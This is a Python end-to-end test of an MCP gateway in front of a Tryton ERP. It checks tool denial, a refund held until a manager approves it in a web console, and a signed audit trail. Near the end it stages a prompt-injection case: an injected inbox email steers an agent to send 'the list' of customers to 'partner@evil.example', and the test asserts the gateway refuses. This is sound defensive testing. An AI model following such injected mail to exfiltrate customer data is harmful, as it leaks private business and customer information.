"""The gateway on the demo company in the local Tryton, end to end: an MCP client (the
SDK's) reads, is denied, has a refund held and approved in the console (Chromium),
reads an injected email whose mail to a stranger is refused; the trail verifies."""

from __future__ import annotations

import hashlib
import os
import re
import textwrap
import threading
import time
from collections.abc import Iterator
from mailbox import Maildir
from pathlib import Path
from typing import Any

import pytest
import uvicorn
from typer.testing import CliRunner

from tests.connectors.test_end_to_end import PASSWORD_ENV, _inject, local_tryton  # noqa: F401
from tests.gateway.harness import TOKEN, Running, free_port, serving
from tests.web.conftest import PASSWORDS, web_settings
from tether.cli import app as cli
from tether.connectors.email import Outbox
from tether.connectors.tryton import client_from_settings
from tether.connectors.tryton._server import DEFAULT_ADMIN_PASSWORD, LocalTryton
from tether.web import create_app

CHROMIUM = Path("/usr/bin/chromium")
CHROMIUM_ARGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--no-first-run",
]


def _browser_missing() -> str | None:
    try:
        import playwright.sync_api  # noqa: F401
    except ImportError:
        return "the playwright package is not installed"
    return None if CHROMIUM.exists() else f"Chromium is not installed at {CHROMIUM}"


def _config(base: Path, tryton_url: str, database: str, outbox: Outbox, inbox: Path) -> Path:
    (base / "policy.yaml").write_text(
        textwrap.dedent("""\
        version: 1
        roles:
          sales: {may: ["crm.*", "erp.*", "email.*"]}
          manager: {may: ["*"]}
        users:
          sam: {roles: [sales]}
          fiona: {roles: [manager]}
        defaults:
          approval: {approvers: [role:manager], expires: 1h}
        agents:
          desk:
            may_act_for: [role:sales]
            tools:
              - {tool: crm.find_parties}
              - {tool: erp.list_invoices}
              - {tool: email.read_inbox}
              - {tool: email.read_message}
              - id: refund
                tool: erp.issue_credit_note
                approval: {approvers: [role:manager]}
              - id: customer-mail
                tool: email.send
                when: args.to.all(r, r in run.known_contacts)
                approval: never
        """)
    )
    (base / "desk.yaml").write_text("name: desk\nmodel: test\npolicy: policy.yaml\n")
    token = hashlib.sha256(TOKEN.encode()).hexdigest()
    port = free_port()
    (base / "tether.yaml").write_text(
        textwrap.dedent(f"""\
        database: sqlite:///{base / "tether.db"}
        keys: {base / "keys"}
        policy: policy.yaml
        agents: [desk.yaml]
        connectors:
          - type: tryton
            settings: {{url: "{tryton_url}", database: {database}, password_env: {PASSWORD_ENV}}}
          - type: email
            settings:
              smtp_port: {outbox.port}
              sender: desk@acme.example
              inbox_maildir: {inbox}
              sent_maildir: {base / "sent"}
        gateway:
          url: http://127.0.0.1:{port}/mcp
          tokens: [{{name: desk-laptop, user: sam, agent: desk, sha256: {token}}}]
        """)
    )
    return base / "tether.yaml"


@pytest.fixture
def demo(
    local_tryton: LocalTryton,  # noqa: F811
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> Iterator[tuple[Running, dict[str, Any], Outbox]]:
    monkeypatch.setenv(PASSWORD_ENV, DEFAULT_ADMIN_PASSWORD)
    inbox = tmp_path / "inbox"
    Maildir(inbox, create=True)
    database = local_tryton.create_database()
    try:
        with local_tryton.serve(database) as tryton, Outbox(tmp_path / "outbox") as outbox:
            client = client_from_settings({"url": tryton.url, "database": database})
            invoice = client.call(
                "model.account.invoice.search_read",
                [[("state", "=", "posted"), ("type", "=", "out")], 0, 1, None, ["id", "party"]],
            )[0]
            party = client.call(
                "model.party.party.search_read",
                [
                    [("contact_mechanisms.type", "=", "email")],
                    0,
                    1,
                    None,
                    ["id", "contact_mechanisms.value"],
                ],
            )[0]
            _inject(inbox, party["contact_mechanisms."][0]["value"])
            config = _config(tmp_path, tryton.url, database, outbox, inbox)
            with serving(config, accept=False) as running:
                yield running, {"invoice": invoice["id"], "client": client}, outbox
    finally:
        local_tryton.drop_database(database)


@pytest.mark.slow
async def test_an_mcp_client_on_the_demo_company_through_the_gateway(
    demo: tuple[Running, dict[str, Any], Outbox], tmp_path: Path
) -> None:
    gateway, world, outbox = demo
    missing = _browser_missing()
    if missing and os.environ.get("TETHER_REQUIRE_BROWSER") == "1":
        pytest.fail(missing)
    async with gateway.client() as client:
        names = {tool.name for tool in (await client.list_tools()).tools}
        assert "erp.issue_credit_note" in names and "erp.create_sale" not in names

        found = await client.call_tool("crm.find_parties", {"query": ""})  # an allowed read
        assert not found.is_error and "@" in found.content[0].text  # type: ignore[union-attr]

        denied = await client.call_tool("erp.create_sale", {"party_id": 1, "lines": []})
        assert denied.is_error  # not granted: the gate's default denial

        refund = {"invoice_id": world["invoice"]}
        held = await client.call_tool("erp.issue_credit_note", refund)
        request_id = held.structured_content["tether"]["approval"]  # type: ignore[index]
        assert gateway.service.approval(request_id).status == "pending"

        approve_in_console(gateway, request_id, tmp_path, browser=missing is None)
        credited = await client.call_tool("erp.issue_credit_note", refund)
        assert not credited.is_error, credited.content
        again = await client.call_tool("erp.issue_credit_note", refund)
        assert again.content[0].text == credited.content[0].text  # type: ignore[union-attr]

        inbox = await client.call_tool("email.read_inbox", {})
        message_id = re.search(r'"id": "([^"]+)"', inbox.content[0].text)  # type: ignore[union-attr]
        assert message_id is not None
        read = await client.call_tool("email.read_message", {"id": message_id.group(1)})
        assert "partner@evil.example" in read.content[0].text  # type: ignore[union-attr]
        steered = await client.call_tool(
            "email.send",
            {"to": ["partner@evil.example"], "subject": "customers", "body": "the list"},
        )
        assert steered.is_error  # a stranger: refused
    assert outbox.messages() == []  # nothing reached the SMTP server
    assert list(gateway.service.events(type="call.executed", tool="email.send")) == []
    state = world["client"].call("model.account.invoice.read", [[world["invoice"]], ["state"]])[0][
        "state"
    ]
    assert state == "cancelled"  # credited once, in Tryton
    executed = list(gateway.service.events(type="call.executed", tool="erp.issue_credit_note"))
    assert len(executed) == 1
    verified = CliRunner().invoke(
        cli,
        [
            "audit",
            "verify",
            "--db",
            gateway.config.database,
            "--keys",
            str(gateway.folder / "keys"),
        ],
    )
    assert verified.exit_code == 0, verified.output


def approve_in_console(gateway: Running, request_id: str, tmp_path: Path, *, browser: bool) -> None:
    """fiona approves in the console: in Chromium when it is there, else by its forms."""
    app = create_app(
        gateway.service.runtime, web_settings(), session_secret="s" * 48, evals_dir=tmp_path / "e"
    )
    port = free_port()
    server = uvicorn.Server(uvicorn.Config(app, port=port, log_level="warning", lifespan="off"))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    while not server.started:
        time.sleep(0.02)
    url = f"http://127.0.0.1:{port}"
    try:
        if browser:
            _approve_with_chromium(url, request_id)
        else:
            _approve_with_forms(url, request_id)
    finally:
        server.should_exit = True
        thread.join(10)
    assert gateway.service.approval(request_id).status == "approved"


def _approve_with_chromium(url: str, request_id: str) -> None:
    from playwright.sync_api import expect, sync_playwright

    failures: list[BaseException] = []

    def drive() -> None:
        try:
            with sync_playwright() as playwright:
                chromium = playwright.chromium.launch(
                    executable_path=str(CHROMIUM), args=CHROMIUM_ARGS
                )
                try:
                    page = chromium.new_page()
                    page.goto(f"{url}/approvals/{request_id}")
                    page.get_by_label("User").fill("fiona")
                    page.get_by_label("Password").fill(PASSWORDS["fiona"])
                    page.get_by_role("button", name="Log in").click()
                    expect(page.locator("body")).to_contain_text("erp.issue_credit_note")
                    page.get_by_role("button", name="Approve").click()
                    expect(page.locator(".flash").first).to_contain_text("You approved")
                finally:
                    chromium.close()
        except BaseException as exc:
            failures.append(exc)

    thread = threading.Thread(target=drive)
    thread.start()
    thread.join(120)
    if failures:
        raise failures[0]


def _approve_with_forms(url: str, request_id: str) -> None:  # pragma: no cover - no browser
    import httpx

    from tests.web.conftest import csrf_of

    with httpx.Client(base_url=url, follow_redirects=False) as web:
        page = web.get("/login")
        web.post(
            "/login",
            data={
                "username": "fiona",
                "password": PASSWORDS["fiona"],
                "csrf_token": csrf_of(page.text),
            },
        )
        form = web.get(f"/approvals/{request_id}").text
        digest = re.search(r'name="args_hash" value="([^"]+)"', form)
        assert digest is not None
        web.post(
            f"/approvals/{request_id}/approve",
            data={"csrf_token": csrf_of(form), "args_hash": digest.group(1)},
        )
